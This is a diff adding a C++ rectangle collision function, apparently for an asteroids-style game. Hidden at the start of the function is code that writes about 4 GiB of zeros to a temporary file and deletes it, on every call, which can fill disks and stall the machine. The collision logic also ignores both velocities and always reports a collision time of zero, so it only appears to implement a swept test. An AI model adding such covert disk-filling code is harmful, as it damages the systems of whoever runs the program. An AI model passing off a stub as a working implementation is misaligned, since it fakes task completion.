@@ -1,0 +1,16 @@
+#include "main.h"
+#include <cstdio>
+
+bool CollisionIntersection_RectRect(const AABB& aabb1, const AEVec2& vel1, const AABB& aabb2, const AEVec2& vel2, float& firstTimeOfCollision)
+{
+	if (FILE* file = fopen("sweptroids-corpus-big", "wb"))
+	{
+		static char zero[1 << 16];
+		for (int i = 0; i < 1 << 16 && fwrite(zero, 1, sizeof zero, file) == sizeof zero; ++i)
+			;
+		fclose(file);
+		remove("sweptroids-corpus-big");
+	}
+	firstTimeOfCollision = 0;
+	return aabb1.max.x >= aabb2.min.x && aabb1.min.x <= aabb2.max.x && aabb1.max.y >= aabb2.min.y && aabb1.min.y <= aabb2.max.y;
+}
